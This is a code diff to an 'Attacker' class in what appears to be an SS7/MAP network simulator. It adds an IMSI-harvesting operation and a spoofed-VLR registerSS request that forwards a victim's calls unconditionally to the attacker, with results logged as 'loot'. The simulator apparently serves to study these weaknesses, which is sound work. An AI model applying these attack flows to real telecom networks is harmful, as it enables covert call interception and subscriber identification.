@@ -11,8 +11,10 @@ import org.slf4j.Logger;
 import org.slf4j.LoggerFactory;
 import org.ss7sim.map.common.AddressString;
 import org.ss7sim.map.common.Imsi;
+import org.ss7sim.map.dialogue.MapOpenInfo;
 import org.ss7sim.map.message.AnyTimeInterrogationArg;
 import org.ss7sim.map.message.AnyTimeInterrogationRes;
+import org.ss7sim.map.message.BasicServiceCode;
 import org.ss7sim.map.message.CancelLocationArg;
 import org.ss7sim.map.message.Identity;
 import org.ss7sim.map.message.InsertSubscriberDataArg;
@@ -25,11 +27,16 @@ import org.ss7sim.map.message.ProvideRoamingNumberRes;
 import org.ss7sim.map.message.ProvideSubscriberInfoArg;
 import org.ss7sim.map.message.ProvideSubscriberInfoRes;
 import org.ss7sim.map.message.PurgeMsArg;
+import org.ss7sim.map.message.RegisterSsArg;
 import org.ss7sim.map.message.RequestedInfo;
 import org.ss7sim.map.message.RoutingInfoForSmArg;
 import org.ss7sim.map.message.RoutingInfoForSmRes;
+import org.ss7sim.map.message.SendImsiArg;
+import org.ss7sim.map.message.SendImsiRes;
 import org.ss7sim.map.message.SendRoutingInfoArg;
 import org.ss7sim.map.message.SendRoutingInfoRes;
+import org.ss7sim.map.message.SsCode;
+import org.ss7sim.map.message.SsInfo;
 import org.ss7sim.map.message.SubscriberIdentity;
 import org.ss7sim.map.message.SubscriberInfo;
 import org.ss7sim.map.message.UpdateLocationArg;
@@ -210,6 +217,21 @@ public final class Attacker implements NodeLogic, MapUser {
                 return "imsi=" + got + " msc=" + msc;
               },
               listener);
+      case "send-imsi" ->
+          send(
+              MapOperations.SEND_IMSI,
+              new SendImsiArg(victimMsisdn),
+              MapApplicationContext.IMSI_RETRIEVAL,
+              gt(calling, Ssn.VLR),
+              gt(msisdn, Ssn.HLR),
+              flow,
+              what,
+              (SendImsiRes res) -> {
+                found(new Loot.HarvestedImsi(msisdn, res.imsi().digits(), "-"));
+                return "imsi=" + res.imsi().digits();
+              },
+              listener);
+      case "register-ss" -> registerSs(v, calling, flow, what, listener);
       case "ul" ->
           send(
               MapOperations.UPDATE_LOCATION,
@@ -265,6 +287,43 @@ public final class Attacker implements NodeLogic, MapUser {
     }
   }
 
+  /**
+   * registerSS of call forwarding unconditional to the attacker's number, as the VLR serving the
+   * victim (TS 29.002 §11.2): the MAP-OPEN names the victim by IMSI (destination reference) and the
+   * VLR (origination reference); the HLR confirms with the forwarding now active.
+   */
+  private void registerSs(
+      Victim v, String calling, String flow, String what, AttemptListener listener) {
+    AddressString to = AddressString.international(ownGt);
+    send(
+        MapOperations.REGISTER_SS,
+        new RegisterSsArg(
+            SsCode.CFU, BasicServiceCode.TELEPHONY, to, null, null, null, null, List.of()),
+        MapApplicationContext.NETWORK_FUNCTIONAL_SS,
+        gt(calling, Ssn.VLR),
+        gt(v.msisdn(), Ssn.HLR),
+        flow,
+        what,
+        (SsInfo res) -> {
+          String number = to.digits();
+          if (res != null
+              && res.forwardingInfo() != null
+              && !res.forwardingInfo().forwardingFeatureList().isEmpty()
+              && res.forwardingInfo().forwardingFeatureList().get(0).forwardedToNumber() != null) {
+            number =
+                res.forwardingInfo().forwardingFeatureList().get(0).forwardedToNumber().digits();
+          }
+          found(new Loot.Redirection(v.msisdn(), number, "cfu"));
+          return "calls to " + v.msisdn() + " forwarded to " + number;
+        },
+        listener,
+        new MapOpenInfo(
+            new AddressString(0, AddressString.LAND_MOBILE, v.imsi()),
+            AddressString.international(calling),
+            null,
+            List.of()));
+  }
+
   /** Location and state: what a tracker asks for (RequestedInfo, TS 29.002 §8.11.1). */
   private static final RequestedInfo LOCATION_AND_STATE =
       new RequestedInfo(true, true, null, false, null, false, false, List.of());
@@ -312,11 +371,28 @@ public final class Attacker implements NodeLogic, MapUser {
       String what,
       java.util.function.Function<R, String> gain,
       AttemptListener listener) {
+    send(op, arg, context, calling, called, flow, what, gain, listener, null);
+  }
+
+  private <A extends MapParameter, R> void send(
+      Operation<A, R> op,
+      A arg,
+      MapApplicationContext context,
+      SccpAddress calling,
+      SccpAddress called,
+      String flow,
+      String what,
+      java.util.function.Function<R, String> gain,
+      AttemptListener listener,
+      MapOpenInfo openInfo) {
     MapStack map = maps.get(calling.ssn().value());
     if (map == null) {
       map = maps.values().iterator().next();
     }
-    MapDialogue d = map.open(calling, called, context, 3);
+    MapDialogue d = map.open(calling, called, context, Math.min(3, context.maxVersion()));
+    if (openInfo != null) {
+      d.openInfo(openInfo);
+    }
     boolean[] done = {false};
     Consumer<Outcome> finish =
         o -> {
